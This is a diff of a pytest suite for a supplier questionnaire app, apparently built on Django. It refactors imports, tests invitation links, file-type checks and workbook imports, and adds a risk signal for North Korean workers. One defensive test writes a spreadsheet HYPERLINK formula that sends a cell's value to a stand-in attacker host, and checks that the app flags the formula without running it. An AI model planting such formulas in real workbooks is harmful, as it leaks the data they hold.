@@ -10,19 +10,11 @@ from django.utils import timezone
 from chainproof.accounts.roles import Role
 from chainproof.audit.models import AuditEvent
 from chainproof.domain.questionnaire.definition import parse_definition
+from chainproof.questionnaires.answering import NotComplete, document_upload, draft_save, web_submit
+from chainproof.questionnaires.campaigns import campaign_create
+from chainproof.questionnaires.contacts import InvitationInvalid, _token_hash, invitation_open
 from chainproof.questionnaires.models import Attachment, QuestionnaireRequest, QuestionnaireVersion
-from chainproof.questionnaires.services import (
-    InvitationInvalid,
-    NotComplete,
-    _token_hash,
-    campaign_create,
-    definition,
-    document_upload,
-    draft_save,
-    invitation_open,
-    versions_sync,
-    web_submit,
-)
+from chainproof.questionnaires.versions import definition, versions_sync
 from chainproof.suppliers.models import Supplier
 from tests.supply import load_demo
 
@@ -112,7 +104,7 @@ def test_an_older_version_keeps_reading_after_a_new_one(request_):
     assert request_.answers["policy_dprk"] == "yes"
 
 
-def test_the_invitation_link_signs_in_a_supplier_contact_once(request_):
+def test_the_invitation_link_signs_in_the_same_supplier_contact_until_it_expires(request_):
     token = _with_token(request_)
     user, qr = invitation_open(token)
     assert user.username == "lan@lotus.example"
@@ -120,9 +112,9 @@ def test_the_invitation_link_signs_in_a_supplier_contact_once(request_):
     membership = user.memberships.get()
     assert (membership.role, membership.supplier_id) == (Role.SUPPLIER, qr.supplier_id)
     assert qr.status == "opened"
-    with pytest.raises(InvitationInvalid, match="already used"):
-        invitation_open(token)
-    assert AuditEvent.objects.filter(action="questionnaire.invitation_opened").count() == 1
+    again, _ = invitation_open(token)
+    assert again.pk == user.pk
+    assert AuditEvent.objects.filter(action="questionnaire.invitation_opened").count() == 2
 
 
 def test_an_expired_link_is_refused(request_):
@@ -132,20 +124,25 @@ def test_an_expired_link_is_refused(request_):
 
 
 def test_a_link_cannot_sign_in_as_an_internal_member(request_, alice):
-    request_.contact_email = alice.user.username
-    request_.save()
-    alice.user.username = alice.user.username.lower()
+    alice.user.username = "alice@acme.example"
     alice.user.save()
-    with pytest.raises(InvitationInvalid, match="another role"):
-        invitation_open(_with_token(request_))
+    request_.contact_email = "Alice@Acme.example"
+    request_.save()
+    user, qr = invitation_open(_with_token(request_))
+    assert user.pk != alice.user.pk
+    assert user.username != alice.user.username
+    assert [(m.role, m.supplier_id) for m in user.memberships.all()] == [
+        (Role.SUPPLIER, qr.supplier_id)
+    ]
+    assert alice.user.memberships.get().role == Role.ADMIN
 
 
 @pytest.mark.parametrize(
     ("name", "data", "message"),
     [
-        ("policy.exe", b"MZ\x90\x00", "Expected one of"),
-        ("policy.pdf", b"<html>not a pdf</html>", "is not a .pdf file"),
-        ("notes.txt", b"\x00\x01binary", "is not a text file"),
+        ("policy.exe", b"MZ\x90\x00", "expected one of"),
+        ("policy.pdf", b"<html>not a pdf</html>", "the name says a PDF, but the content is a text"),
+        ("notes.txt", b"\x00\x01binary", "binary content"),
         ("empty.pdf", b"", "Expected 1 to"),
     ],
 )
@@ -221,7 +218,7 @@ def _compact_workbook(**overrides):
 
 
 def test_another_layout_registered_as_a_map_is_read_into_the_draft(request_):
-    from chainproof.questionnaires.services import workbook_submit
+    from chainproof.questionnaires.answering import workbook_submit
 
     assert [d["name"] for d in request_.campaign.questionnaire.layouts] == [
         "compact one-sheet survey"
@@ -241,8 +238,36 @@ def test_another_layout_registered_as_a_map_is_read_into_the_draft(request_):
     assert AuditEvent.objects.filter(action="questionnaire.workbook_imported").exists()
 
 
+@pytest.mark.parametrize("own", [True, False], ids=["chainproof workbook", "another layout"])
+def test_an_uploaded_workbook_is_unzipped_and_checked_once(request_, monkeypatch, own):
+    import zipfile
+
+    from chainproof.fileformats import xlsx
+    from chainproof.questionnaires.answering import workbook_for, workbook_submit
+    from tests.questionnaire_helpers import TYPED, fill
+
+    if own:
+        _, layout = definition(request_.campaign.questionnaire)
+        data = fill(workbook_for(request_), layout, TYPED)
+    else:
+        data = _compact_workbook()
+    opened = []
+    real = zipfile.ZipFile
+
+    def counting(*args, **kwargs):
+        opened.append(1)
+        return real(*args, **kwargs)
+
+    monkeypatch.setattr(xlsx.zipfile, "ZipFile", counting)
+    with transaction.atomic():
+        outcome = workbook_submit(qr=request_, actor=None, data=data, file_name="back.xlsx")
+    assert outcome.layout == ("chainproof 1.0" if own else "compact one-sheet survey")
+    assert (outcome.submission is not None) is own
+    assert opened == [1]
+
+
 def test_a_wrong_answer_in_another_layout_names_its_cell_and_stores_nothing(request_):
-    from chainproof.questionnaires.services import WorkbookProblems, workbook_submit
+    from chainproof.questionnaires.answering import WorkbookProblems, workbook_submit
 
     with pytest.raises(WorkbookProblems) as caught, transaction.atomic():
         workbook_submit(
@@ -261,7 +286,7 @@ def test_an_unknown_layout_is_refused_with_the_ones_known(request_):
 
     from openpyxl import Workbook
 
-    from chainproof.questionnaires.services import WorkbookProblems, workbook_submit
+    from chainproof.questionnaires.answering import WorkbookProblems, workbook_submit
 
     book = Workbook()
     book.active.title = "Sheet1"
@@ -277,13 +302,15 @@ def test_an_unknown_layout_is_refused_with_the_ones_known(request_):
 def test_accepted_answers_are_risk_factors_with_their_source(request_, alice):
     from chainproof.domain.questionnaire.answers import check
     from chainproof.questionnaires.models import Submission
-    from chainproof.questionnaires.services import request_accept
+    from chainproof.questionnaires.review import request_accept
     from chainproof.risk.selectors import current_for
     from chainproof.risk.services import risk_score_all
     from tests.questionnaire_helpers import TYPED, countries
 
     questionnaire, _ = definition(request_.campaign.questionnaire)
-    values = check(questionnaire, {**TYPED, "documents_held": "Yes"}, countries=countries()).values
+    typed = {**TYPED, "documents_held": "Yes", "dprk_own_operations": "Yes"}
+    typed["dprk_details"] = "Twelve welders from Sinuiju, hired through a broker"
+    values = check(questionnaire, typed, countries=countries()).values
     request_.answers, request_.status = values, "submitted"
     request_.save()
     Submission.objects.create(
@@ -306,3 +333,33 @@ def test_accepted_answers_are_risk_factors_with_their_source(request_, alice):
     assert "signal:identity_documents_retained" in found
     assert "signal:worker_paid_recruitment_fees" in found
     assert "questionnaire Q4" in found["signal:identity_documents_retained"]["source"]
+    # Methodology 2: North Korean nationals in the supplier's own operations count.
+    assert found["signal:dprk_nationals_reported"]["points"] == 100
+
+
+def test_formulas_outside_the_answers_are_flagged_for_the_reviewer_never_run(request_):
+    import io
+
+    from openpyxl import load_workbook
+
+    from chainproof.questionnaires.answering import workbook_for, workbook_submit
+    from chainproof.questionnaires.models import Submission
+    from tests.questionnaire_helpers import TYPED, fill
+
+    _, layout = definition(request_.campaign.questionnaire)
+    clean = fill(workbook_for(request_), layout, TYPED)
+    with transaction.atomic():
+        outcome = workbook_submit(qr=request_, actor=None, data=clean, file_name="clean.xlsx")
+    assert outcome.warnings == []  # the Checker sheet's own formulas are not the supplier's
+    book = load_workbook(io.BytesIO(clean))
+    book["Declaration"]["Z40"] = '=HYPERLINK("http://evil.example/?leak="&C5,"Open")'
+    out = io.BytesIO()
+    book.save(out)
+    request_.status = "sent"
+    request_.save()
+    with transaction.atomic():
+        outcome = workbook_submit(qr=request_, actor=None, data=out.getvalue(), file_name="f.xlsx")
+    assert len(outcome.warnings) == 1
+    assert "Declaration!Z40" in outcome.warnings[0]
+    latest = Submission.objects.filter(request=request_).order_by("-pk").first()
+    assert latest.warnings == outcome.warnings
